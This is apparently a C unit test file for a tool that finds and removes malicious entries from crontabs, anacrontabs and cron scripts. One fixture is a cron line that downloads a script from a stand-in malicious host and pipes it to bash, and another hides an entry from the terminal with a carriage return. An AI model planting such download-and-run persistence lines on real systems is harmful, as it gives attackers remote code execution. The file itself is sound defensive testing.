/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "crontab-edit.h"
#include "shell-edit.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

struct search {
	struct strv texts, paths, users;
	struct entry_search s;
};

static void search_free(struct search *s)
{
	strv_free(&s->texts);
	strv_free(&s->paths);
	strv_free(&s->users);
}

static void search_set(struct search *s, const char *text, const char *path, const char *user)
{
	*s = (struct search){0};
	if (text)
		strv_add(&s->texts, text);
	if (path)
		strv_add(&s->paths, path);
	if (user)
		strv_add(&s->users, user);
	s->s = (struct entry_search){.texts = &s->texts, .paths = &s->paths, .users = &s->users};
}

static void check_bytes(enum crontab_form form, const char *before, size_t len, const char *text, const char *path,
                        const char *user, const char *after, size_t after_len, size_t hits)
{
	_cleanup_buf_ struct buf in = {0}, out = {0};
	_cleanup_hits_ struct hits found = {0};
	_cleanup_(search_free) struct search s;
	search_set(&s, text, path, user);
	buf_add(&in, before, len);
	assert_int_equal(crontab_strip(form, &in, &s.s, &out, &found), 0);
	assert_int_equal(found.n, hits);
	assert_int_equal(out.len, after_len);
	assert_memory_equal(buf_text(&out), after, after_len);
}

static void check(enum crontab_form form, const char *before, const char *text, const char *path, const char *user,
                  const char *after, size_t hits)
{
	check_bytes(form, before, strlen(before), text, path, user, after, strlen(after), hits);
}

static void the_entry_goes_and_nothing_else(void **state)
{
	(void)state;
	check(CRONTAB_USER,
	      "# m h dom mon dow command\n"
	      "0 3 * * * /usr/local/bin/backup\n"
	      "*/5 * * * * wget -qO- http://malicious-site.example/m.sh | bash\n"
	      "@daily  /usr/bin/rotate\n",
	      "malicious-site.example", NULL, NULL,
	      "# m h dom mon dow command\n"
	      "0 3 * * * /usr/local/bin/backup\n"
	      "@daily  /usr/bin/rotate\n",
	      1);
}

static void every_schedule_is_an_entry(void **state)
{
	(void)state;
	static const char *const lines[] = {
		"* * * * * evil\n",      "@reboot evil\n",     "  \t 1 2 3 4 5 evil --now\n", "@daily\tevil\n",
		"-*/5 * * * * evil\n",   "0~59 * * * * evil\n", "1 1 1 jan mon evil\r\n",     "* * * * * FOO=1 evil\n",
		"* * * * * true%evil\n",
	};
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++)
		check(CRONTAB_USER, lines[i], "evil", NULL, NULL, "", 1);
}

static void comments_and_nonsense_stay(void **state)
{
	(void)state;
	const char *text = "# evil was here\n   # evil\n\nevil\n* * * evil\n* * * * *\n* * * * * good\n";
	check(CRONTAB_USER, text, "evil", NULL, NULL, text, 4);
	check(CRONTAB_USER, "* * * * * \n", "* * * * *", NULL, NULL, "* * * * * \n", 1);
	check(CRONTAB_USER, "", "evil", NULL, NULL, "", 0);
}

static void the_schedule_is_not_searched(void **state)
{
	(void)state;
	check(CRONTAB_SYSTEM, "5 * * * * root /bin/good\n", "5", NULL, NULL, "5 * * * * root /bin/good\n", 0);
	check(CRONTAB_SYSTEM, "5 * * * * root /bin/good\n", "root", NULL, NULL, "5 * * * * root /bin/good\n", 0);
	/* but a whole line may be given as it stands in the file */
	check(CRONTAB_SYSTEM, " 5 * * * * root /bin/bad \n", "5 * * * * root /bin/bad", NULL, NULL, "", 1);
}

static void settings_act_on_entries(void **state)
{
	(void)state;
	check(CRONTAB_USER, "SHELL=/tmp/.x/sh\nPATH = /bin\n\"A B\" = '/tmp/.x/sh'\n* * * * * good\n", NULL,
	      "/tmp/.x/sh", NULL, "PATH = /bin\n* * * * * good\n", 2);
	/* settings of a system crontab belong to no user */
	check(CRONTAB_SYSTEM, "SHELL=/tmp/.x/sh\n", NULL, "/tmp/.x/sh", "root", "SHELL=/tmp/.x/sh\n", 0);
	check(CRONTAB_SYSTEM, "SHELL=/tmp/.x/sh\n", NULL, "/tmp/.x/sh", NULL, "", 1);
}

static void users_limit_system_crontabs(void **state)
{
	(void)state;
	check(CRONTAB_SYSTEM, "* * * * * www evil\n* * * * * root evil\n@hourly rooty evil\n", "evil", NULL, "root",
	      "* * * * * www evil\n@hourly rooty evil\n", 1);
}

static void paths_are_whole_words(void **state)
{
	(void)state;
	static const char *const hits[] = {
		"* * * * * /tmp/m\n",          "* * * * * /tmp/m -q\n",       "* * * * * sh /tmp/m;true\n",
		"* * * * * sh -c '/tmp/m'\n",  "* * * * * sh -c \"/tmp/m\"\n", "* * * * * true>/tmp/m\n",
		"* * * * * PATH=/a:/tmp/m x\n", "* * * * * /tmp//m\n",         "* * * * * /tmp/./m\n",
		"* * * * * $(/tmp/m)\n",       "* * * * * /tmp/m%in\n",       "* * * * * /tmp/mm /tmp/m\n",
	};
	static const char *const misses[] = {
		"* * * * * /tmp/m.sh\n", "* * * * * /tmp/mm\n", "* * * * * /tmp/m/x\n",
		"* * * * * /var/tmp/m\n", "* * * * * ~/tmp/m\n", "* * * * * ${HOME}/tmp/m\n",
		"* * * * * /tmp/m\\ more\n", "* * * * * ./tmp/m\n",
	};
	for (size_t i = 0; i < sizeof(hits) / sizeof(hits[0]); i++)
		check(CRONTAB_USER, hits[i], NULL, "/tmp/m", NULL, "", 1);
	for (size_t i = 0; i < sizeof(misses) / sizeof(misses[0]); i++)
		check(CRONTAB_USER, misses[i], NULL, "/tmp/m", NULL, misses[i], 0);
}

static void percent_signs_are_unquoted(void **state)
{
	(void)state;
	check(CRONTAB_USER, "* * * * * curl http://x/a\\%20b\n", "a%20b", NULL, NULL, "", 1);
	check(CRONTAB_USER, "* * * * * curl http://x/a\\%20b\n", "a\\%20b", NULL, NULL, "", 1);
}

static void the_last_newline_is_kept_or_made(void **state)
{
	(void)state;
	check(CRONTAB_USER, "* * * * * good\n* * * * * evil", "evil", NULL, NULL, "* * * * * good\n", 1);
	check(CRONTAB_USER, "* * * * * evil\n* * * * * good", "evil", NULL, NULL, "* * * * * good\n", 1);
	/* nothing removed: nothing touched */
	check(CRONTAB_USER, "* * * * * good", "evil", NULL, NULL, "* * * * * good", 0);
}

static void what_a_terminal_hides_is_told(void **state)
{
	(void)state;
	_cleanup_buf_ struct buf in = {0}, out = {0};
	_cleanup_hits_ struct hits hits = {0};
	_cleanup_(search_free) struct search s;
	search_set(&s, "evil", NULL, NULL);
	buf_puts(&in, "\n* * * * * evil;\r# nothing to see      \n* * * * * evil\n");
	assert_int_equal(crontab_strip(CRONTAB_USER, &in, &s.s, &out, &hits), 0);
	assert_string_equal(buf_text(&out), "\n");
	assert_int_equal(hits.n, 2);
	assert_true(hits.v[0].hidden);
	assert_int_equal(hits.v[0].line, 2);
	assert_false(hits.v[1].hidden);
	assert_int_equal(hits.v[1].line, 3);
}

static void nul_bytes_hide_nothing(void **state)
{
	(void)state;
	static const char before[] = "* * * * * good\n* * * * * x\0evil\n";
	check_bytes(CRONTAB_USER, before, sizeof(before) - 1, "evil", NULL, NULL, "* * * * * good\n", 15, 1);
	static const char keep[] = "* * * * * go\0od\n* * * * * evil\n";
	check_bytes(CRONTAB_USER, keep, sizeof(keep) - 1, "evil", NULL, NULL, keep, 16, 1);
}

static void anacron_joins_lines(void **state)
{
	(void)state;
	check(CRONTAB_ANACRON,
	      "SHELL=/bin/sh\n1 5 cron.daily run-parts /etc/cron.daily\n7 10 x sh \\\n -c evil\n@monthly 1 y ok\n",
	      "evil", NULL, NULL, "SHELL=/bin/sh\n1 5 cron.daily run-parts /etc/cron.daily\n@monthly 1 y ok\n", 1);
	/* the name of the job is not its command */
	check(CRONTAB_ANACRON, "1 5 evil run\n", "evil", NULL, NULL, "1 5 evil run\n", 0);
}

static void scripts_are_searched_without_comments(void **state)
{
	(void)state;
	static const struct {
		const char *script, *text, *path;
		bool found;
	} cases[] = {
		{"#!/bin/sh\nwget evil\n", "evil", NULL, true},
		{"#!/bin/sh\n# not evil\ntrue\n", "evil", NULL, false},
		{"#!/tmp/evil\ntrue\n", NULL, "/tmp/evil", true},
		{"#!/bin/sh\n  exec /tmp/evil\n", NULL, "/tmp/evil", true},
		{"#!/bin/sh\nexec /tmp/evil2\n", NULL, "/tmp/evil", false},
		{"true; evil", "evil", NULL, true},
		{"", "evil", NULL, false},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		_cleanup_buf_ struct buf script = {0};
		_cleanup_(search_free) struct search s;
		search_set(&s, cases[i].text, cases[i].path, NULL);
		buf_puts(&script, cases[i].script);
		assert_int_equal(script_mentions(&script, &s.s, NULL), cases[i].found);
	}
}

static void an_empty_text_finds_nothing(void **state)
{
	(void)state;
	check(CRONTAB_USER, "* * * * * good\n", "", NULL, NULL, "* * * * * good\n", 0);
}

static void names_that_cron_skips(void **state)
{
	(void)state;
	static const char *const skipped[] = {"bad.sh", ".hidden", "a b", "x~", "caf\xc3\xa9", ""};
	for (size_t i = 0; i < sizeof(skipped) / sizeof(skipped[0]); i++)
		assert_true(cron_skips_name(skipped[i]));
	assert_false(cron_skips_name("malicious"));
	assert_false(cron_skips_name("0anacron_x-1"));
}

/* Whatever the bytes: the result is the text without the lines that were hit. */
static void random_bytes_lose_whole_lines_only(void **state)
{
	(void)state;
	static const char alphabet[] = "*0 \t\n\n#=@%\\\"'/aevil\r\0x";
	uint32_t seed = 12345;
	for (unsigned round = 0; round < 20000; round++) {
		_cleanup_buf_ struct buf in = {0}, out = {0};
		_cleanup_hits_ struct hits hits = {0};
		_cleanup_(search_free) struct search s;
		search_set(&s, "evil", "/a", NULL);
		size_t len = round % 97;
		for (size_t i = 0; i < len; i++) {
			seed = seed * 1664525u + 1013904223u;
			if (seed >> 28 == 0)
				buf_puts(&in, "\n* * * * * evil");
			else
				buf_putc(&in, alphabet[(seed >> 16) % (sizeof(alphabet) - 1)]);
		}
		assert_int_equal(crontab_strip(round % 3, &in, &s.s, &out, &hits), 0);
		size_t gone = 0;
		for (size_t i = 0; i < hits.n; i++) {
			assert_true(hits.v[i].at + hits.v[i].len <= in.len);
			bool newline = hits.v[i].at + hits.v[i].len < in.len;
			gone += !hit_goes(hits.v[i].what) ? 0 : hits.v[i].len + newline;
		}
		assert_int_equal(out.len, in.len - gone + hits.newline_added);
		_cleanup_buf_ struct buf again = {0};
		_cleanup_hits_ struct hits none = {0};
		assert_int_equal(crontab_strip(round % 3, &out, &s.s, &again, &none), 0);
		for (size_t i = 0; i < none.n; i++)
			assert_false(hit_goes(none.v[i].what));
		assert_true(buf_equal(&out, &again));
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(the_entry_goes_and_nothing_else),
		cmocka_unit_test(every_schedule_is_an_entry),
		cmocka_unit_test(comments_and_nonsense_stay),
		cmocka_unit_test(the_schedule_is_not_searched),
		cmocka_unit_test(settings_act_on_entries),
		cmocka_unit_test(users_limit_system_crontabs),
		cmocka_unit_test(paths_are_whole_words),
		cmocka_unit_test(percent_signs_are_unquoted),
		cmocka_unit_test(the_last_newline_is_kept_or_made),
		cmocka_unit_test(what_a_terminal_hides_is_told),
		cmocka_unit_test(nul_bytes_hide_nothing),
		cmocka_unit_test(anacron_joins_lines),
		cmocka_unit_test(scripts_are_searched_without_comments),
		cmocka_unit_test(an_empty_text_finds_nothing),
		cmocka_unit_test(names_that_cron_skips),
		cmocka_unit_test(random_bytes_lose_whole_lines_only),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
